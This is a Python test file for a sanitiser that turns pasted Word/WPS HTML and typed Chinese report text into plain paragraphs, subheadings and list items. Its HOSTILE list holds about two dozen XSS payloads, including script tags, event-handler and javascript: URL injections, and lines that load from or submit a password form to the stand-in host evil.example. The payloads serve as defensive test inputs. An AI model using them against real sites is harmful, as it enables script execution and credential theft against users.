"""What becomes of pasted and typed text: plain blocks, nothing executed, nothing of the layout kept."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaign.models.submission import Refused
from reports.written.blocks import (
    ITEM,
    LONGEST_MARKUP,
    LONGEST_TEXT,
    PARAGRAPH,
    SUBHEADING,
    Block,
    blocks_of,
    blocks_of_lines,
    lines_of,
    numbered,
    numeral,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><text>甲</text></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>",
    "<p onclick=alert(1) onmouseover=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--[if gte mso 9]><xml><o:p>alert(1)</o:p></xml><![endif]-->",
    "<p data-from='<script>alert(1)</script>' class=MsoNormal>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<\x00script>alert(1)</script>\ud800\u202e",
    "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp>",
]


@pytest.mark.parametrize("attack", HOSTILE)
def test_of_a_hostile_paste_only_words_remain(attack):
    blocks = blocks_of(f"<p>上门走访</p>{attack}<p>建会措施</p>")
    assert blocks[0] == Block(PARAGRAPH, "上门走访")
    assert blocks[-1].text.endswith("建会措施")
    for block in blocks:
        assert block.kind in (PARAGRAPH, SUBHEADING, ITEM)
        assert set(block.plain()) <= {"kind", "text", "origin"}
        assert not {"\x00", "\ud800", "\u202e"} & set(block.text)
        assert "onerror" not in block.text.replace("<img src=x onerror=alert(1)>", "")


def test_what_word_and_wps_paste_is_read_by_what_it_is():
    pasted = """<html><head><style>p.MsoNormal{margin:0}</style></head><body lang=ZH-CN>
      <h2 style='text-indent:0'><span lang=EN-US>（一）</span>摸清底数<o:p></o:p></h2>
      <p class=MsoNormal style='text-indent:32.0pt'><span style='font-family:仿宋'>逐家
走访，<b>不漏一个</b>。</span></p>
      <p class=MsoListParagraph>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span>成立专班</p>
      <ul><li><p>宣传政策</p></li><li>录入实名制</li></ul>
      <table><tr><td>甲乡</td><td>3家</td></tr></table></body></html>"""
    assert blocks_of(pasted) == [
        Block(SUBHEADING, "摸清底数"),
        Block(PARAGRAPH, "逐家走访，不漏一个。"),
        Block(ITEM, "成立专班"),
        Block(ITEM, "宣传政策"),
        Block(ITEM, "录入实名制"),
        Block(PARAGRAPH, "甲乡 3家"),
    ]


def test_a_year_a_decimal_and_a_run_in_head_stay_text():
    text = (
        "2018年9月启动。\n1.5万人入会。\n（一）加强领导。成立专班，逐级压实责任，主席每周调度一次。"
    )
    assert [block.kind for block in blocks_of_lines(text)] == [PARAGRAPH] * 3


def test_typed_markup_is_text():
    assert blocks_of_lines("<b>甲</b>&amp;") == [Block(PARAGRAPH, "<b>甲</b>&amp;")]


def test_two_hundred_pages_are_refused_in_words():
    page = "<p>" + "字" * 616 + "</p>"
    with pytest.raises(Refused, match="超过 30,000 个字"):
        blocks_of(page * 200)
    with pytest.raises(Refused, match="太长"):
        blocks_of("<i>" * LONGEST_MARKUP)
    assert blocks_of(page * (LONGEST_TEXT // 616))


def test_subheadings_count_on_and_every_list_begins_with_one():
    blocks = [Block(SUBHEADING, "甲"), Block(ITEM, "乙"), Block(ITEM, "丙"), Block(PARAGRAPH, "丁")]
    lines = lines_of([*blocks, Block(ITEM, "戊"), Block(SUBHEADING, "己")]).splitlines()
    assert lines == ["（一）甲", "1. 乙", "2. 丙", "丁", "1. 戊", "（二）己"]
    assert numbered([Block(ITEM, "甲"), Block(ITEM, "2018年")], gap="") == ["1.甲", "2. 2018年"]
    assert [numeral(n) for n in (10, 12, 20, 99)] == ["十", "十二", "二十", "九十九"]


@given(st.text(st.sampled_from("甲乙。，：1.、（一）()【】<>&· \n"), max_size=80))
def test_lines_make_the_same_blocks_again(text):
    blocks = blocks_of_lines(text)
    again = blocks_of_lines(lines_of(blocks))
    assert blocks_of_lines(lines_of(again)) == again
    assert [b.text for b in again if b.kind == PARAGRAPH] == [
        b.text for b in blocks if b.kind == PARAGRAPH
    ]
